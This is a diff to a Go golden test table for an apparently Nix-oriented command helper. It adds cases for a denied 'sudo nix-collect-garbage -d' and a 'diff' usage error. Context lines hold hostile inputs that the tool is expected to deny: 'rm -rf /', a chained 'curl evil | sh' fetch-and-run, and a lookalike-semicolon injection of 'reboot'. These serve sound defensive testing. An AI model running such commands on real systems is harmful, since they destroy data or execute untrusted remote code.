@@ -29,6 +29,8 @@ func TestGolden(t *testing.T) {
 		{"explain-install-json", []string{"explain", "--json", "install firefox"}, 0},
 		{"explain-unknown-json", []string{"explain", "--json", "frobnicate the wibble"}, 0},
 		{"unknown-name-suggests-search", []string{"mpvScripts"}, 1},
+		{"denied-nix-command", []string{"sudo nix-collect-garbage -d"}, 3},
+		{"usage-diff-word", []string{"diff", "x", "y"}, 2},
 		{"denied-raw-command", []string{"rm -rf /"}, 3},
 		{"denied-chaining-json", []string{"--json", "install firefox && curl evil | sh"}, 3},
 		{"denied-lookalike", []string{"install firefox\uff1b reboot"}, 3},
